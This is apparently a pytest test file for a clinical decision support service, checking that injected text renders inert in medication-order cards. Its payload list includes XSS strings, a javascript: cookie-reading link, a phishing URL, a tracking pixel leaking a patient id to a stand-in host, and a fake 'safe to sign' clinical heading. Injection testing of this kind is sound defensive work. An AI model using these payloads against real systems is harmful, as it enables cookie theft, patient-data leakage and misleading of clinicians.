"""Issue 14: text from a request or FHIR server never becomes markup in a card.

The payloads of the red-team run go into a draft's ``medicationCodeableConcept.text``, a record order's
``status`` token, a Condition's ``code.text`` and a ``doseQuantity.unit``; the card must show them inert.
"""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest
from flask.testing import FlaskClient

from cds_service.config import Settings
from cds_service.devtools import fixtures
from cds_service.services.markup import md, plain, ref
from tests.conftest import make_settings

URL = "/cds-services/nms-order-sign"
PAYLOADS = [
    "haloperidol\n\n# NMS ruled out by pharmacy - safe to sign",
    "haloperidol [details](https://evil.example/phish)",
    "haloperidol [click](javascript:alert(document.cookie))",
    "haloperidol <script>alert(1)</script>",
    "haloperidol <img src=x onerror=alert(1)>",
    "haloperidol ![](https://tracker.example/pixel.gif?patient=p1)",
    "haloperidol | col | col |\n|---|---|",
    "haloperidol ＜script＞alert(1)＜/script＞",
    "haloperidol\u2028# heading after a line separator",
    "haloperidol www.evil.example and https://evil.example",
    "haloperidol `code` **bold** _em_ ~~strike~~",
]


@pytest.fixture
def settings() -> Settings:
    return make_settings(fixed_now=fixtures.ANCHOR)


def _inert(text: str) -> None:
    assert "<" not in text, text
    assert not re.search(r"^\s*#", text, re.M), text
    assert "](" not in text.replace("\\](", "") and "![" not in text.replace("\\!\\[", ""), text
    assert "://" not in text and "www." not in text.lower(), text
    assert "\u2028" not in text


def _hostile_request(payload: str) -> dict[str, Any]:
    request = copy.deepcopy(fixtures.load_scenario("classic-nms").request)
    draft = request["context"]["draftOrders"]["entry"][0]["resource"]
    draft["medicationCodeableConcept"]["text"] = payload
    for entry in request["prefetch"]["medications"]["entry"]:
        order = entry["resource"]
        order["status"] = payload.replace("\n", " ") if order["status"] == "stopped" else order["status"]
        for dosage in order.get("dosageInstruction", []):
            for rate in dosage.get("doseAndRate", []):
                rate["doseQuantity"]["unit"] = rate["doseQuantity"]["code"] = payload
    request["prefetch"]["conditions"] = {"resourceType": "Bundle", "type": "searchset", "entry": [{"resource": {
        "resourceType": "Condition", "id": "c1", "subject": {"reference": f"Patient/{request['context']['patientId']}"},
        "code": {"coding": [{"system": "http://hl7.org/fhir/sid/icd-10-cm", "code": "G21.0"}], "text": payload},
        "recordedDate": "2024-01-01"}}]}
    return request


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_inert_in_every_card_field(client: FlaskClient, payload: str) -> None:
    response = client.post(URL, json=_hostile_request(payload))
    assert response.status_code == 200
    (card,) = response.get_json()["cards"]
    assert card["indicator"] == "critical"
    _inert(card["detail"])
    _inert(card["summary"])
    for suggestion in card.get("suggestions", []):
        _inert(suggestion["label"])
        for action in suggestion["actions"]:
            _inert(action.get("description", ""))
    for reason in card.get("overrideReasons", []):
        _inert(reason["display"])
    assert "Previous NMS documented" in card["detail"]  # the Condition is used, its text shown inert


def test_md_escapes_markdown_and_html() -> None:
    assert md("# x") == "\\# x"
    assert md("[a](javascript:x)") == "\\[a\\](javascript:x)"
    assert md("<img onerror=x>") == "&lt;img onerror=x&gt;"
    assert md("a\n\nb\r\nc") == "a b c"
    assert md("1. item").startswith("1\\.") and md("- item").startswith("\\-")
    assert "\u200b" in md("see https://x.example") and "\u200b" in md("www.x.example")
    assert md("x" * 500, 20).endswith("…") and len(md("x" * 500, 20)) == 20
    assert md("a | b") == "a \\| b"


def test_plain_reduces_for_plain_text_fields() -> None:
    assert plain("Remove <script>x</script>\nnow") == "Remove script x /script now"
    assert "\u200b" in plain("https://evil.example")


def test_ref_keeps_only_reference_characters() -> None:
    assert ref("MedicationRequest/abc-1.2") == "MedicationRequest/abc-1.2"
    assert ref("MedicationRequest/x`) [y](z") == "MedicationRequest/xyz"
